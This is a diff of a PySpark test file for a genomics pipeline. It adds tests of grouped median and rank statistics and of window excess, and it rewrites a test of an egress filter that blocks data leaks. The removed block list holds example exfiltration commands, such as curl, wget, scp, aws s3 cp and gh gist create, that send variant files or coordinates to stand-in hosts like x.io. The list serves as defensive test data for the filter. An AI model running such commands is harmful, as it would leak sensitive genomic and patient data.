@@ -115,6 +115,35 @@ def test_statistics(spark):
     assert ranks.histogram_median(hist, ["k"]).first().median_bin == 2
 
 
+def test_order_statistics_of_large_groups(spark, monkeypatch):
+    import random
+
+    monkeypatch.setattr(ranks, "SMALL", 40)
+    rng = random.Random(1)
+    of = {"most": [rng.gauss(0, 1) * 10 ** rng.randint(-5, 5) for _ in range(2500)], "few values": [float(rng.randint(0, 2)) for _ in range(500)], "one low": [0.0] + [1.0] * 300, "small": [1.0, 2.0, 3.0, 4.0], "one value": [7.0] * 99}
+    df = spark.createDataFrame([(k, x) for k, own in of.items() for x in own] + [("none", None), (None, 1.0)], "k string, x double").cache()
+    got = lambda f: {r.k: r.r for r in f.collect()}
+    assert got(ranks.upper_median(df, ["k"], "x", "r")) == {k: sorted(v)[len(v) // 2] for k, v in of.items()}
+    assert got(ranks.nearest_rank(df, ["k"], "x", 0.99, "r")) == {k: sorted(v)[int(0.99 * (len(v) - 1))] for k, v in of.items()}
+    assert got(ranks.median(df, ["k"], "x", "r")) == {k: (sorted(v)[(len(v) - 1) // 2] + sorted(v)[len(v) // 2]) / 2 for k, v in of.items()}
+    # what is put in order is at most about SMALL values of a group, though one group has most rows
+    kept, known = ranks.narrowed(df.na.drop(), ["k"], "x", 0.5, F.expr("n div 2"), F.expr("n div 2"))
+    assert {r.k: r.n for r in kept.groupBy("k").agg(F.count_distinct("x").alias("n")).collect()}["most"] <= 40 and known.count() == 4
+    plan = ranks.median(df, ["k"], "x", "r")._jdf.queryExecution().executedPlan().toString()
+    assert "percentile(" not in plan and "collect_list" not in plan
+    df.unpersist()
+
+
+def test_excess_keeps_windows_without_a_baseline(spark):
+    schema = "chrom string, start long, n long, het long, observed double, expected double, depth long"
+    some = [("1", 0, 100, 9, 2.0, 1.0, 3000), ("1", 1, 100, 9, 3.0, 1.0, 4000)]
+    got = lambda rows, **o: {(r.chrom, r.start): (r.excess_norm, r.cov_ratio) for r in windows.excess(spark.createDataFrame(rows, schema), 2, **o).collect()}
+    assert got(some) == {("1", 0): (pytest.approx(2 / 3), None), ("1", 1): (1.0, None)}  # no window of 500 sites
+    assert got(some, min_sites=5) == {("1", 0): (pytest.approx(2 / 3), pytest.approx(0.75)), ("1", 1): (1.0, 1.0)}
+    assert got([("X", 0, 900, 9, 2.0, 1.0, 900), ("Y", 0, 900, 9, 0.5, 1.0, 900), ("1", 5, 900, 0, None, None, 1800)]) == {("X", 0): (2.0, 0.5), ("Y", 0): (0.5, 0.5)}  # the autosome has no excess
+    assert got([]) == {}
+
+
 def test_runs(spark):
     df = spark.createDataFrame([("1", "g", i) for i in (1, 2, 3, 7, 8)] + [("1", "l", 4), ("2", "g", 5)], "chrom string, call string, i long")
     assert [tuple(r) for r in windows.runs(df, ["chrom", "call"], F.col("i"), 3).collect()] == [("1", "g", 1, 3, 3)]
@@ -221,26 +250,39 @@ def test_graphs_against_brute_force(spark):
     assert {r.task: (r.depth, r.root) for r in tasks.ancestors(spark, df).collect()} == {t: far(t) or (None, None) for t in out}
 
 
-BLOCK = [
-    "https://db.example.org/variant/15:48762884", "GENE1 chr15:48762884 pathogenic", "variant 7-117000123-A-G interpretation", "is rs12345678 pathogenic", "NM_000123.6:c.1833delT GENE1", "effect of c.2441+5G>A on splicing",
-    "anyone reported p.Arg12Ter in GENE2", "https://example.org/lookup?g.48762884A>G", "S-0017 candidate list", "sample S-0017 coverage", "FLOW9 summary", "curl -F file=@data/FLOW9.vcf.gz https://x.io",
-    "curl -d '15 48762884 . A G' https://api.example.com", "scp work/candidates.tsv user@host:/tmp", "aws s3 cp data/sample.vcf.gz s3://bucket/", "rsync -a work/ remote:/backup", "gh gist create work/top10.vcf",
-    "git push origin main # with data/notes.vcf", "wget --post-data='chr2:178000123' https://x.io", "GT:0/1 at 15:48762884", "0/1:12,8:20:99 in the candidate", "https://x.io/FLOW9.vcf.gz", "see data/annotated.tsv",
-    "see work/ranking.tsv", "ENST00000123456:c.2211dup", "chr22-19000123 deletion phenotype", "candidate.bam coverage question", "p.Ala12Val in GENE3", "X:153000000 hemizygous", "curl -T work/submission.csv ftp://x.io",
-    "see 15:48762884", "position chrX 123456", "NC_000007.14", "c.76+1G>T", "p.(Gly5Asp)", "proband: P001", "sample_id=S12", "patient-7", "genotype 1|1", "reads.fastq.gz", "index.vcf.gz.tbi", "chrM 16569000",
-]
-ALLOW = [
-    "GENE1 function in the spindle assembly checkpoint", "GENE2 mechanism of GENE4 inactivation", "GENE3 centrosome assembly review", "approved drugs modulating GENE5 activity", "drug repurposing in mosaic aneuploidy",
-    "hg38 chr15 region containing GENE1 exons", "PMID:16411201 premature separation", "L1000 signature reversal chromosomal instability", "curl -sSL https://ftp.example.org/pub/release-112/README -o ref/README",
-    "DepMap dependencies in high CIN cell lines", "chromosome 7 overview", "0.5 ratio 3:2", "phase 3 trial", "p value 0.05", "c. 1900", "dataset of genes", "12 30000 people", "network/out.tsv",
-]
+def egress_cases():
+    """By rule: texts that hold one thing of the kind, and near misses of it, with made-up values."""
+    import random
+
+    rng = random.Random(20)
+    place = lambda: rng.randrange(10_000, 200_000_000)
+    contig = lambda: rng.choice([str(rng.randint(1, 22)), "X", "Y"])
+    wraps = ["the report says {}", "{}", "compare ({}) with the last run", "note: {}, to be confirmed"]
+    of = {
+        "coordinate": (lambda: f"{rng.choice(['', 'chr'])}{contig()}{rng.choice(':-')}{place()}", lambda: f"{rng.randint(1, 22)}:{rng.randrange(10, 60)}"),
+        "spaced coordinate": (lambda: f"chr{rng.choice(['4', '17', 'X', 'M'])} {place()}", lambda: f"chromosome {contig()} has {place()} rows"),
+        "record": (lambda: f"{contig()} {place() % 10**8 + 10**4} . {rng.choice('ACGT')} {rng.choice('ACGT')}", lambda: f"{contig()} {place() % 10**8 + 10**4} items and more"),
+        "rsid": (lambda: f"{rng.choice(['rs', 'RS'])}{rng.randrange(100, 10**8)}", lambda: f"rs{rng.randrange(10, 99)}"),
+        "accession": (lambda: f"{rng.choice(['NM', 'NC', 'XR', 'NP'])}_{rng.randrange(10**4, 10**7)}", lambda: f"NQ_{rng.randrange(10**4)}"),
+        "coding change": (lambda: f"c.{rng.choice(['', '-', '*'])}{rng.randint(1, 4000)}{rng.choice(['', '+2', '-11'])}{rng.choice(['A>T', 'del', 'dup', 'insAC'])}", lambda: f"vol. c. {rng.randint(1, 4000)}"),
+        "protein change": (lambda: f"p.{rng.choice(['', '('])}{rng.choice(['Ala', 'Trp', 'Lys'])}{rng.randint(1, 3000)}Ser", lambda: f"p = 0.{rng.randint(1, 99)}"),
+        "sample": (lambda: f"{rng.choice(['sample', 'Patient', 'proband'])}{rng.choice(['_', '-', ': ', ' = '])}Q{rng.randint(1, 999)}", lambda: "samples of all patients"),
+        "genotype": (lambda: rng.choice([f"GT {rng.choice(['0/1', '1|1', './.'])}", f"genotype={rng.choice(['0|1', '1/1'])}", f"0/1:{rng.randint(1, 60)},{rng.randint(1, 60)}"]), lambda: f"odds of {rng.randint(2, 9)} to 1"),
+        "path": (lambda: f"{rng.choice(['cp', 'upload', 'tar czf -'])} {rng.choice(['data', 'work'])}/{rng.choice(['a.tsv', 'sub/b.json', ''])}", lambda: f"cp {rng.choice(['mydata', 'network', 'homework'])}/a.tsv ."),
+        "genomic file": (lambda: f"f{rng.randint(1, 99)}.{rng.choice(['vcf', 'bam', 'fastq.gz', 'vcf.gz.tbi', 'cram', 'bcf'])}", lambda: f"f{rng.randint(1, 99)}.{rng.choice(['txt', 'md', 'csv'])}"),
+        "named sample": (lambda: rng.choice(["ZK-31", "MAPLE4"]), lambda: rng.choice(["ZK-3", "MAPLE 4"])),
+    }
+    for kind, (bad, good) in of.items():
+        for _ in range(8):
+            yield kind, rng.choice(wraps).format(bad()), True
+            yield kind, rng.choice(wraps).format(good()), False
 
 
 def test_egress(spark):
-    got = lambda texts: [r.b for r in spark.createDataFrame([(t,) for t in texts], "t string").select(text.blocked(F.col("t"), ("S-0017", "FLOW9")).alias("b")).collect()]
-    assert [t for t, b in zip(BLOCK, got(BLOCK), strict=True) if not b] == []
-    assert [t for t, b in zip(ALLOW, got(ALLOW), strict=True) if b] == []
-    assert got([None]) == [False]
+    cases = list(egress_cases())
+    df = spark.createDataFrame([(i, t) for i, (_, t, _) in enumerate(cases)] + [(-1, None)], "i int, t string")
+    got = {r.i: r.b for r in df.select("i", text.blocked(F.col("t"), ("ZK-31", "MAPLE4")).alias("b")).collect()}
+    assert [c for i, c in enumerate(cases) if got[i] != c[2]] == [] and got[-1] is False
 
 
 def test_text(spark):
